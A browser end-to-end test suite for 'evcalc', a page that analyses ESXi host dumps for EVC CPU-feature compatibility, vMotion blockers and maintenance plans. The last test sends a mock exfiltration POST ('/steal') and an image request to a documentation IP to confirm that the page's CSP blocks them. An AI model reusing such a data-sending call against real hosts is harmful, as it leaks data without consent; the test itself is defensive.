// Browser tests of the evcalc page in real headless Chromium. Run: node --test (from tests/e2e)
// or tests/e2e/run.sh (builds the module first). Screenshots go to target/e2e-artifacts/.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { REPO, artefact, startServer, startBrowser, openPage, analysed, seqOf, example, bundledExample, shot, paste, watchMainThread, longestStall, copy, pressPaste } from './harness.mjs';

const HOSTS = ['esxi01.txt', 'esxi02.txt', 'esxi03.txt', 'esxi04.txt'];
let server, base, browser;

before(async () => {
  ({ server, base } = await startServer());
  browser = await startBrowser(base);
});
after(async () => {
  await browser?.close();
  server?.close();
});

const cell = (page, from, to) => page.locator(`#matrix td[data-from="${from}"][data-to="${to}"]`);
/** The class (its label) a host is in, from the hosts table. */
const classOf = (page, host) => page.locator(`#hosts-table tr[data-host="${host}"]`).getAttribute('data-class');
/** The class-matrix cell for a VM powered on on host `from` moving to host `to`. */
const classCell = async (page, from, to) => cell(page, await classOf(page, from), await classOf(page, to));
const hostRows = (page) => page.locator('#hosts-table tr[data-host]');

/** "Show every host": the matrix as the host × host grid. */
async function showEveryHost(page, on = true) {
  const pressed = (await page.locator('#matrix-hosts').getAttribute('aria-pressed')) === 'true';
  if (pressed !== on) await page.click('#matrix-hosts');
  // The page redraws the grid in the click handler (no new analysis).
  await page.waitForFunction((k) => document.getElementById('matrix').dataset.kind === k, on ? 'host' : 'class');
}

async function pasteAndWait(page, text) {
  const n = await seqOf(page);
  await paste(page, text);
  await analysed(page, n);
}

async function chooseEvc(page, mode) {
  const n = await seqOf(page);
  await page.selectOption('#evc', mode);
  await analysed(page, n);
}

test('MDCLEAR cluster: matrix, drift, maintenance, detail, rename/remove, reports', async () => {
  const { page, problems } = await openPage(browser.context, base);
  await pasteAndWait(page, HOSTS.map(example).join('\n'));
  await chooseEvc(page, 'intel-haswell');

  // Hosts, grouped by class: esxi01 alone, esxi02–04 alike.
  assert.equal(await hostRows(page).count(), 4);
  for (const name of ['esxi01', 'esxi02', 'esxi03', 'esxi04']) {
    const row = page.locator(`#hosts-table tr[data-host="${name}"]`);
    assert.match(await row.innerText(), /intel-haswell/);
    assert.match(await row.innerText(), /6\.7\.0/);
  }
  const groups = await page.locator('#hosts-table tbody.class-group').evaluateAll((gs) => gs.map((g) => ({ label: g.dataset.class, hosts: [...g.querySelectorAll('tr[data-host]')].map((r) => r.dataset.host), head: g.querySelector('tr.class-row').textContent })));
  assert.deepEqual(groups.map((g) => [g.label, g.hosts]), [['esxi01', ['esxi01']], ['esxi02–04', ['esxi02', 'esxi03', 'esxi04']]]);
  assert.match(groups[1].head, /esxi02–04 · 3 hosts .*highest EVC mode intel-haswell/);

  // The class story, next to the headline.
  const story = await page.locator('#story').innerText();
  assert.match(story, /4 hosts in 2 classes of identical CPU features: esxi01 \(1\); esxi02–04 \(3\)/);
  assert.match(story, /3 hosts do not offer cpuid\.MDCLEAR \(Microarchitectural Data clear\) to VMs although the baseline exposes it \(shown by esxi01\): 3 hosts whose CPU does not report it/);
  assert.match(story, /1 of 4 planned hosts cannot be fully evacuated/);

  // Matrix over classes: esxi01 → esxi02–04 blocked by MDCLEAR, esxi02–04 → esxi01 allowed.
  assert.equal(await page.locator('#matrix tbody tr').count(), 2);
  assert.match(await page.locator('#matrix thead').innerText(), /esxi02–04\s+3 hosts/);
  const blocked = cell(page, 'esxi01', 'esxi02–04');
  assert.match(await blocked.getAttribute('class'), /\bbad\b/);
  const blockedText = await blocked.innerText();
  assert.match(blockedText, /cpuid\.MDCLEAR/);
  assert.match(blockedText, /Microarchitectural Data clear/);
  assert.match(blockedText, /vmx-9 and later/);
  const allowed = cell(page, 'esxi02–04', 'esxi01');
  assert.match(await allowed.getAttribute('class'), /\bok\b/);
  assert.match(await allowed.innerText(), /can move/);
  assert.match(await cell(page, 'esxi02–04', 'esxi02–04').getAttribute('class'), /\bok\b/); // another host of the class
  assert.match(await cell(page, 'esxi01', 'esxi01').getAttribute('class'), /\bself\b/); // a one-host class
  assert.equal(await page.locator('#matrix td.bad').count(), 1);
  assert.match(await page.locator('#matrix-caption').innerText(), /3 of 12 host-to-host moves blocked/);

  // Drift, counted in hosts
  const drift = await page.locator('#drift').innerText();
  assert.match(drift, /cpuid\.MDCLEAR/);
  assert.match(drift, /Microarchitectural Data clear/);
  assert.match(drift, /only 1 of 4 hosts: esxi01/);
  assert.match(drift, /3 hosts without: esxi02–04 \(3 hosts\)/);

  // Maintenance of esxi01: not fully evacuable; esxi02–04 report MDCLEAR 0 raw: activate the microcode.
  const m1 = await page.locator('#maintenance details[data-host="esxi01"]').innerText();
  assert.match(m1, /cannot be fully evacuated/);
  assert.match(m1, /VMs of vmx-9 and later powered on there require cpuid.MDCLEAR, which esxi02–04 do not offer/);
  assert.match(m1, /blocked to 3 hosts: esxi02–04/);
  assert.match(m1, /Activate the MDS microcode on esxi02–04/);
  assert.match(m1, /KB 68024/);
  // One plan for the class esxi02–04.
  assert.equal(await page.locator('#maintenance details[data-hosts~="esxi03"]').getAttribute('data-host'), 'esxi02–04');
  assert.match(await page.locator('#maintenance details[data-hosts~="esxi02"]').innerText(), /can enter maintenance mode/);

  await shot(page, 'mdclear-overview.png');

  // Click the red cell: the detail names the feature, required vs available, admission and remedy.
  await blocked.click();
  const detail = page.locator('#detail');
  await detail.waitFor();
  // The evidence (vHW bands, admission) is collapsed under the fix: open it.
  await page.locator('#detail details.evidence > summary').click();
  const d = await detail.innerText();
  assert.match(d, /esxi01 → esxi02–04: blocked/);
  assert.match(d, /Microarchitectural Data clear/);
  assert.match(d, /Bool:Min:1/);
  assert.match(d, /does not offer it \(featureCapability 0\)/); // the blocker's why
  assert.match(d, /vmx-9–10 blocked/);
  assert.match(d, /esxi02–04 cannot join EVC mode intel-haswell; it lacks/); // one admission rule: the baseline exposes MDCLEAR
  assert.match(d, /Activate the MDS microcode on esxi02–04/);
  assert.match(d, /the other way \(esxi02–04 → esxi01\): can move/);
  await detail.screenshot({ path: artefact('mdclear-detail.png') });
  await shot(page, 'mdclear-detail-page.png');

  // Reports
  const [json] = await Promise.all([page.waitForEvent('download'), page.click('#download-json')]);
  const report = JSON.parse(fs.readFileSync(await json.path(), 'utf8'));
  assert.equal(report.schema, 2);
  assert.equal(report.evc.mode, 'intel-haswell');
  assert.equal(report.hosts.length, 4);
  assert.deepEqual(report.classes.map((c) => c.label), ['esxi01', 'esxi02–04']);
  assert.equal(report.matrix.length, 2);
  assert.ok(report.drift.some((x) => x.key === 'cpuid.MDCLEAR'));
  assert.match(json.suggestedFilename(), /^evcalc-report-.*\.json$/);
  const [md] = await Promise.all([page.waitForEvent('download'), page.click('#download-md')]);
  const markdown = fs.readFileSync(await md.path(), 'utf8');
  assert.match(markdown, /^# evcalc report/);
  assert.match(markdown, /`cpuid\.MDCLEAR` — Microarchitectural Data clear: only 1 of 4 hosts: esxi01/);
  assert.match(markdown, /4 hosts in 2 classes/);
  assert.match(markdown, /esxi01 → esxi02–04: `cpuid\.MDCLEAR`/);
  assert.match(markdown, /Activate the MDS microcode on esxi02–04/);


  // Per-VM EVC Westmere hides MDCLEAR: everything can move.
  let n = await seqOf(page);
  await page.selectOption('#per-vm-evc', 'intel-westmere');
  await analysed(page, n);
  assert.equal(await page.locator('#matrix td.bad').count(), 0);
  n = await seqOf(page);
  await page.selectOption('#per-vm-evc', '');
  await analysed(page, n);
  assert.equal(await page.locator('#matrix td.bad').count(), 1);

  // Rename esxi04, then remove esxi03 and restore it.
  n = await seqOf(page);
  await page.locator('#hosts-table tr[data-host="esxi04"] button', { hasText: 'Rename' }).click();
  await page.fill('#hosts-table input.rename-input', 'esxi04-new');
  await page.press('#hosts-table input.rename-input', 'Enter');
  await analysed(page, n);
  assert.equal(await page.locator('#hosts-table tr[data-host="esxi04-new"]').count(), 1);
  assert.match(await page.locator('#hosts-table tr[data-host="esxi04-new"]').innerText(), /renamed from esxi04/);
  assert.match(await classOf(page, 'esxi04-new'), /esxi04-new/);
  assert.match(await (await classCell(page, 'esxi01', 'esxi04-new')).getAttribute('class'), /\bbad\b/);
  n = await seqOf(page);
  await page.locator('#hosts-table tr[data-host="esxi03"] button', { hasText: 'Remove' }).click();
  await analysed(page, n);
  assert.equal(await hostRows(page).count(), 3);
  assert.equal(await page.locator('#matrix tbody tr').count(), 2);
  assert.match(await page.locator('#drift').innerText(), /only 1 of 3 hosts: esxi01/);
  n = await seqOf(page);
  await page.locator('#removed button', { hasText: 'restore' }).click();
  await analysed(page, n);
  assert.equal(await hostRows(page).count(), 4);

  assert.deepEqual(problems, []);
  await page.close();
});

test('"show every host" expands the class matrix to hosts with the same verdicts (esxi01 → esxi03)', async () => {
  const { page, problems } = await openPage(browser.context, base);
  await pasteAndWait(page, HOSTS.map(example).join('\n'));
  await chooseEvc(page, 'intel-haswell');
  const classCellEl = cell(page, 'esxi01', 'esxi02–04');
  const classVerdict = await classCellEl.getAttribute('class');
  // The cell's text without its (visually hidden) "from … to …: " part.
  const verdictText = async (el) => (await el.innerText()).replace(/\s+/g, ' ').replace(/^from .*?: /, '');
  const classText = await verdictText(classCellEl);
  assert.match(classText, /blocked by cpuid\.MDCLEAR/);
  await classCellEl.click();
  const classBlockers = await page.locator('#detail table.blockers tbody tr').evaluateAll((rs) => rs.map((r) => [...r.cells].slice(0, 6).map((c) => c.textContent)));
  assert.match(await page.locator('#detail').innerText(), /esxi01 → esxi02–04: blocked/);

  await showEveryHost(page);
  assert.equal(await page.locator('#matrix-hosts').getAttribute('aria-pressed'), 'true');
  assert.equal(await page.locator('#detail').isVisible(), false, 'the selection belongs to the other grid');
  assert.equal(await page.locator('#matrix tbody tr').count(), 4);
  assert.equal(await page.locator('#matrix tbody tr:first-child td').count(), 4);
  assert.match(await page.locator('#matrix-caption').innerText(), /every host .* 3 of 12 host-to-host moves blocked/);
  const hostCellEl = cell(page, 'esxi01', 'esxi03');
  assert.equal(await hostCellEl.getAttribute('class'), classVerdict);
  assert.equal(await verdictText(hostCellEl), classText);
  for (const to of ['esxi02', 'esxi04']) assert.match(await cell(page, 'esxi01', to).getAttribute('class'), /\bbad\b/);
  for (const from of ['esxi02', 'esxi03', 'esxi04']) assert.match(await cell(page, from, 'esxi01').getAttribute('class'), /\bok\b/);
  assert.match(await cell(page, 'esxi03', 'esxi04').getAttribute('class'), /\bok\b/);
  for (const x of ['esxi01', 'esxi03']) {
    assert.match(await cell(page, x, x).getAttribute('class'), /\bself\b/);
    assert.match(await cell(page, x, x).innerText(), /same host\s*—$/);
  }
  assert.equal(await page.locator('#matrix td.bad').count(), 3);
  await hostCellEl.click();
  await page.locator('#detail details.evidence > summary').click();
  const d = await page.locator('#detail').innerText();
  assert.match(d, /esxi01 → esxi03: blocked/);
  assert.match(d, /esxi03 is in class esxi02–04 \(3 hosts\)/);
  assert.match(d, /esxi03 cannot join EVC mode intel-haswell; it lacks/);
  const hostBlockers = await page.locator('#detail table.blockers tbody tr').evaluateAll((rs) => rs.map((r) => [...r.cells].slice(0, 6).map((c) => c.textContent)));
  assert.deepEqual(hostBlockers, classBlockers);
  await shot(page, 'every-host.png');

  // And back to the classes.
  await showEveryHost(page, false);
  assert.equal(await page.locator('#matrix tbody tr').count(), 2);
  assert.deepEqual(problems, []);
  await page.close();
});

test('Load example button loads the bundled cluster, fetched only on the click', async () => {
  const requests = [];
  const record = (r) => requests.push(r.url());
  browser.context.on('request', record);
  const { page, problems } = await openPage(browser.context, base);
  // The example is page data, not part of the module, and only fetched when asked for.
  assert.ok(requests.some((u) => u.endsWith('/pkg/evcalc_wasm_bg.wasm')));
  assert.ok(!requests.some((u) => u.endsWith('/pkg/example.js')), 'the example was loaded before the click');
  const n = await seqOf(page);
  await page.click('#load-example');
  await analysed(page, n);
  browser.context.off('request', record);
  assert.deepEqual(requests.filter((u) => u.endsWith('/pkg/example.js')), [`${base}pkg/example.js`]);
  // Exactly the repository's files and text (what the module exports, and the files listed).
  const expected = bundledExample();
  assert.ok(expected.length >= 4);
  assert.deepEqual(await page.evaluate(async () => (await import('/pkg/example.js')).files), expected);
  assert.equal(await page.locator('#filelist li').count(), expected.length);
  const listed = await page.locator('#filelist').innerText();
  for (const { name } of expected) assert.ok(listed.includes(name), `${name} is not listed`);
  assert.equal(await page.evaluate(async () => 'example' in (await import('/pkg/evcalc_wasm.js'))), false, 'the module still exports example()');
  assert.match(await (await classCell(page, 'esxi01', 'esxi02')).getAttribute('class'), /\bbad\b/);
  assert.match(await (await classCell(page, 'esxi02', 'esxi01')).getAttribute('class'), /\bok\b/);
  assert.match(await (await classCell(page, 'esxi01', 'esxi04')).getAttribute('class'), /\bbad\b/);
  assert.match(await page.locator('#evc option[value=""]').innerText(), /intel-haswell/);
  await shot(page, 'example.png');
  assert.deepEqual(problems, []);
  await page.close();
});

test('a build without the example says so, and a missing example module is an error, not a hang', async () => {
  for (const [body, status, message] of [
    ['export const files = [];\n', 200, /^This build has no bundled example\.$/],
    ['', 404, /^Could not load the example: /],
  ]) {
    const { page } = await openPage(browser.context, base);
    await page.route('**/pkg/example.js', (route) => route.fulfill({ status, contentType: 'text/javascript', body }));
    await page.click('#load-example');
    await page.waitForFunction(() => document.getElementById('status').classList.contains('bad'));
    assert.match(await page.locator('#status').innerText(), message);
    assert.equal(await page.locator('#filelist li').count(), 0);
    await page.close();
  }
});

test('a real govc host file chosen with the file picker shows up as intel-broadwell', async () => {
  const { page, problems } = await openPage(browser.context, base);
  const n = await seqOf(page);
  await page.setInputFiles('#files', path.join(REPO, 'tests/data/real/govc/object.save-vmc-sddc/0082-HostSystem-host-14.xml'));
  await analysed(page, n);
  assert.equal(await page.locator('#filelist li').count(), 1);
  assert.match(await page.locator('#filelist').innerText(), /0082-HostSystem-host-14\.xml/);
  const rows = hostRows(page);
  assert.equal(await rows.count(), 1);
  const row = await rows.first().innerText();
  assert.match(row, /intel-broadwell/);
  assert.match(row, /E5-2686 v4/);
  assert.match(row, /8\.0\.1/);
  assert.match(await page.locator('#filelist').innerText(), /govc XML/);
  await shot(page, 'govc-host.png');
  assert.deepEqual(problems, []);
  await page.close();
});

test('files dropped on the page are read, one input per file', async () => {
  const { page, problems } = await openPage(browser.context, base);
  const n = await seqOf(page);
  const files = ['esxi01.txt', 'esxi02.txt'].map((name) => ({ name, text: example(name) }));
  const dt = await page.evaluateHandle((files) => {
    const dt = new DataTransfer();
    for (const f of files) dt.items.add(new File([f.text], f.name, { type: 'text/plain' }));
    return dt;
  }, files);
  await page.dispatchEvent('#dropzone', 'dragenter', { dataTransfer: dt });
  assert.equal(await page.evaluate(() => document.body.classList.contains('dragging')), true);
  await page.dispatchEvent('#dropzone', 'drop', { dataTransfer: dt });
  await analysed(page, n);
  assert.equal(await page.locator('#filelist li').count(), 2);
  assert.match(await page.locator('#filelist li[data-name="esxi01.txt"]').innerText(), /host esxi01/);
  assert.match(await (await classCell(page, 'esxi01', 'esxi02')).getAttribute('class'), /\bbad\b/);
  assert.equal(await page.evaluate(() => document.body.classList.contains('dragging')), false);
  assert.deepEqual(problems, []);
  await page.close();
});

test('a grep -A 2 MDCLEAR transcript is enough to see the blocker (partial data marked as such)', async () => {
  const { page, problems } = await openPage(browser.context, base);
  await pasteAndWait(page, example('grep-MDCLEAR.txt'));
  await chooseEvc(page, 'intel-haswell');
  assert.equal(await hostRows(page).count(), 4);
  assert.match(await page.locator('#hosts-table tr[data-host="esxi02"]').innerText(), /partial input/);
  const blocked = await classCell(page, 'esxi01', 'esxi02');
  assert.match(await blocked.getAttribute('class'), /\bbad\b/);
  assert.match(await blocked.innerText(), /cpuid\.MDCLEAR/);
  const unsure = await classCell(page, 'esxi02', 'esxi01');
  assert.match(await unsure.getAttribute('class'), /\bok\b.*\bunsure\b/);
  assert.match(await unsure.innerText(), /partial data/);
  assert.match(await page.locator('#drift').innerText(), /only 1 of 4 hosts: esxi01/);
  await shot(page, 'grep-fragment.png');
  assert.deepEqual(problems, []);
  await page.close();
});

test('a blocked cell of an evacuable host still names its remedy (from the core\'s rule)', async () => {
  // esxi05 is a second host with MDCLEAR = 1: esxi01 can be evacuated to it, so esxi01's
  // maintenance plan has no remedies, yet esxi01 → esxi02 stays blocked by MDCLEAR.
  const { page, problems } = await openPage(browser.context, base);
  const esxi05 = example('esxi01.txt').replaceAll('"esxi01"', '"esxi05"');
  await pasteAndWait(page, [...HOSTS.map(example), esxi05].join('\n'));
  await chooseEvc(page, 'intel-haswell');
  assert.match(await page.locator('#maintenance details[data-hosts~="esxi01"]').innerText(), /can enter maintenance mode/);
  assert.match(await (await classCell(page, 'esxi01', 'esxi02')).getAttribute('class'), /\bbad\b/);
  await showEveryHost(page);
  await cell(page, 'esxi01', 'esxi02').click();
  const detail = page.locator('#detail');
  await detail.waitFor();
  const d = await detail.innerText();
  assert.match(d, /esxi01 → esxi02: blocked/);
  assert.match(d, /Nothing needs fixing to evacuate esxi01/);
  assert.match(d, /Activate the MDS microcode on esxi02/);
  assert.match(d, /KB 68024/);
  assert.deepEqual(problems, []);
  await page.close();
});

test('garbage input gives a readable error naming the input and the line', async () => {
  const { page, problems } = await openPage(browser.context, base);
  await pasteAndWait(page, '\n\nthis is not an ESXi dump\nat all\n');
  const errors = page.locator('#errors');
  await errors.waitFor();
  const text = await errors.innerText();
  assert.match(text, /Pasted text — line 3, column 1/);
  assert.match(text, /unrecognised input: expected `vim-cmd hostsvc\/hostconfig`/);
  assert.match(text, /this is not an ESXi dump/); // the offending line is quoted
  assert.equal(await hostRows(page).count(), 0);
  await shot(page, 'garbage.png');

  // A file that breaks in the middle: the error names the file and the line.
  const broken = example('esxi02.txt').split('\n');
  const at = broken.findIndex((l) => l.includes('cpuid.AVX2')) + 1;
  broken.splice(at, 0, '         value = = "1"');
  const n = await seqOf(page);
  await page.fill('#input', '');
  await page.setInputFiles('#files', { name: 'esxi02-broken.txt', mimeType: 'text/plain', buffer: Buffer.from(broken.join('\n')) });
  await analysed(page, n);
  const text2 = await errors.innerText();
  assert.match(text2, new RegExp(`esxi02-broken\\.txt — line ${at + 1}, column \\d+`));
  await shot(page, 'broken-file.png');
  assert.deepEqual(problems, []);
  await page.close();
});

function renamedCopies(count, prefix) {
  const texts = [];
  for (let i = 0; i < count; i++) {
    const src = HOSTS[i % 4];
    const name = `${prefix}${String(i + 1).padStart(String(count).length, '0')}`;
    texts.push(example(src).replace(`hostName = "${src.slice(0, 6)}"`, `hostName = "${name}"`));
  }
  return texts.join('\n');
}

/** Pastes `count` renamed copies of the example's four dumps (so two classes: the esxi01 copies
 * and the rest) and returns the timings the page recorded. */
async function pasteCopies(page, count, prefix) {
  const all = renamedCopies(count, prefix);
  await copy(page, all);
  await watchMainThread(page);
  const n = await seqOf(page);
  const t0 = Date.now();
  await pressPaste(page);
  await analysed(page, n, 120000);
  const ms = Date.now() - t0;
  const stall = await longestStall(page);
  const d = await page.evaluate(() => ({ ...document.body.dataset }));
  return { mb: (all.length / 1e6).toFixed(1), ms, stall, d };
}

const timings = (r) => `Ctrl+V → classes rendered in ${r.ms} ms (paste event → rendered ${r.d.pasteToRenderMs} ms); engine (wasm) ${r.d.engineMs} ms, worker → page ${r.d.transferMs} ms, render ${r.d.renderMs} ms; longest main-thread stall ${r.stall} ms`;

test('32 hosts: paste-to-matrix time', async (t) => {
  const { page, problems } = await openPage(browser.context, base);
  const r = await pasteCopies(page, 32, 'esx');
  assert.equal(await hostRows(page).count(), 32);
  assert.equal(await page.locator('#hosts-table tbody.class-group').count(), 2);
  assert.equal(await page.locator('#matrix tbody tr').count(), 2);
  assert.match(await (await classCell(page, 'esx01', 'esx02')).getAttribute('class'), /\bbad\b/);
  assert.match(await (await classCell(page, 'esx02', 'esx01')).getAttribute('class'), /\bok\b/);
  assert.match(await page.locator('#filelist').innerText(), /paste/); // a 2 MB paste is kept out of the editor
  t.diagnostic(`32 hosts (${r.mb} MB pasted): ${timings(r)}`);
  // Every host: a 32 × 32 table derived from the 2 × 2 class matrix.
  const t1 = Date.now();
  await showEveryHost(page);
  const expandMs = Date.now() - t1;
  assert.equal(await page.locator('#matrix tbody tr').count(), 32);
  assert.equal(await page.locator('#matrix tbody tr:first-child td').count(), 32);
  assert.match(await cell(page, 'esx01', 'esx02').getAttribute('class'), /\bbad\b/);
  assert.match(await cell(page, 'esx02', 'esx01').getAttribute('class'), /\bok\b/);
  t.diagnostic(`32 hosts: "show every host" (32 × 32 table) in ${expandMs} ms`);
  await shot(page, 'hosts-32.png');
  assert.deepEqual(problems, []);
  await page.close();
});

test('128 hosts: classes rendered, paste-to-classes time', async (t) => {
  const { page, problems } = await openPage(browser.context, base);
  const r = await pasteCopies(page, 128, 'esx');
  assert.equal(await hostRows(page).count(), 128);
  const groups = await page.locator('#hosts-table tbody.class-group').evaluateAll((gs) => gs.map((g) => [g.dataset.class, g.querySelectorAll('tr[data-host]').length]));
  assert.equal(groups.length, 2);
  assert.deepEqual(groups.map((g) => g[1]), [32, 96]);
  assert.match(await page.locator('#story').innerText(), /128 hosts in 2 classes of identical CPU features/);
  // The matrix is over classes: 2 × 2, not 128 × 128.
  assert.equal(await page.locator('#matrix tbody tr').count(), 2);
  assert.equal(await page.locator('#vmatrix').isVisible(), false);
  const box = await page.locator('#matrix').boundingBox();
  assert.ok(box.width < 1000 && box.height < 400, `class matrix is ${box.width}×${box.height} px`);
  assert.match(await (await classCell(page, 'esx001', 'esx002')).getAttribute('class'), /\bbad\b/);
  assert.match(await page.locator('#matrix-caption').innerText(), /2 classes of 128 hosts .* 3072 of 16256 host-to-host moves blocked/);
  assert.match(await page.locator('#drift').innerText(), /32 of 128 hosts/);
  assert.equal(await page.locator('#maintenance details').count(), 2);
  t.diagnostic(`128 hosts (${r.mb} MB pasted): ${timings(r)}`);
  await shot(page, 'hosts-128.png');
  assert.deepEqual(problems, []);
  await page.close();
});

test('20 MB paste (330 hosts): the page stays responsive', async (t) => {
  const { page, problems } = await openPage(browser.context, base);
  const all = renamedCopies(330, 'esx');
  await copy(page, all);
  await watchMainThread(page);
  const n = await seqOf(page);
  const t0 = Date.now();
  await pressPaste(page);
  // While the engine works, the page still answers.
  const busyAnswer = Date.now();
  await page.evaluate(() => document.getElementById('status').textContent);
  const answerMs = Date.now() - busyAnswer;
  await analysed(page, n, 120000);
  const ms = Date.now() - t0;
  const stall = await longestStall(page);
  // A long list: each class shows its first 10 hosts until asked for all.
  assert.equal(await hostRows(page).count(), 20);
  await page.locator('#hosts-table button.show-all').first().click();
  assert.equal(await hostRows(page).count(), 83 + 10);
  assert.equal(await page.locator('#matrix tbody tr').count(), 2); // the class matrix
  // Every host: a scrolling grid that builds only the visible cells.
  const t1 = Date.now();
  await page.click('#matrix-hosts');
  await page.waitForFunction(() => document.getElementById('vmatrix').dataset.kind === 'host' && !document.getElementById('vmatrix').hidden);
  const expandMs = Date.now() - t1;
  assert.ok((await page.locator('#vmatrix .vcell').count()) < 2000);
  const c = page.locator('#vmatrix .vcell[data-from="esx001"][data-to="esx002"]');
  assert.match(await c.getAttribute('class'), /\bbad\b/);
  assert.match(await c.innerText(), /MDCLEAR/);
  await c.click();
  assert.match(await page.locator('#detail').innerText(), /esx001 → esx002: blocked/);
  const d = await page.evaluate(() => ({ ...document.body.dataset }));
  const msg = `330 hosts (${(all.length / 1e6).toFixed(1)} MB pasted): Ctrl+V → everything rendered in ${ms} ms (paste event → rendered ${d.pasteToRenderMs} ms); engine (wasm) ${d.engineMs} ms, worker → page ${d.transferMs} ms, render ${d.renderMs} ms; longest main-thread stall ${stall} ms; page answered a query during the analysis in ${answerMs} ms; "show every host" (330 × 330 virtual grid) in ${expandMs} ms`;
  t.diagnostic(msg);
  await page.locator('#matrix-wrap').evaluate((w) => { w.scrollTop = 40 * 150; w.scrollLeft = 124 * 100; });
  await page.waitForTimeout(100);
  assert.ok((await page.locator('#vmatrix .vcell[data-from="esx160"]').count()) > 0);
  await page.locator('#matrix-panel').screenshot({ path: artefact('hosts-330-matrix.png') });
  assert.deepEqual(problems, []);
  await page.close();
});

test('nothing but the page’s own origin was contacted, and the CSP blocks the rest', async () => {
  const origin = new URL(base).origin;
  // Everything the tests above did (pages, worker, module, example, files, downloads).
  const urls = [...browser.requests];
  assert.ok(urls.some((u) => u.endsWith('/pkg/evcalc_wasm_bg.wasm')), 'the module load (from the worker) was observed');
  assert.ok(urls.some((u) => u.endsWith('/worker.js')));
  assert.ok(urls.some((u) => u.endsWith('/pkg/example.js')), 'the example load (on click) was observed');
  const foreign = urls.filter((u) => !(u.startsWith(`${origin}/`) || u.startsWith(`blob:${origin}/`) || u.startsWith('data:')));
  assert.deepEqual(foreign, [], `requests that left ${origin}`);

  // And the page's Content-Security-Policy refuses connections elsewhere, in the page and in
  // the worker (192.0.2.1 is reserved for documentation).
  const { page } = await openPage(browser.context, base);
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    let fetchFailed = false;
    try {
      await fetch('http://192.0.2.1/steal', { method: 'POST', body: 'x' });
    } catch {
      fetchFailed = true;
    }
    const img = new Image();
    img.src = 'http://192.0.2.1/pixel.png';
    await new Promise((r) => setTimeout(r, 300));
    return { fetchFailed, violations };
  });
  assert.equal(outcome.fetchFailed, true);
  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome));
  assert.ok(outcome.violations.includes('img-src'), JSON.stringify(outcome));
  const probes = browser.requests.slice(urls.length).filter((u) => u.includes('192.0.2.1'));
  for (const u of probes) {
    const f = browser.failed.find((x) => x.url === u);
    assert.ok(f && /^csp$|BLOCKED_BY_CSP/i.test(f.error ?? ''), `${u} was not blocked by the CSP: ${JSON.stringify(f)}`);
  }
  await page.close();
});
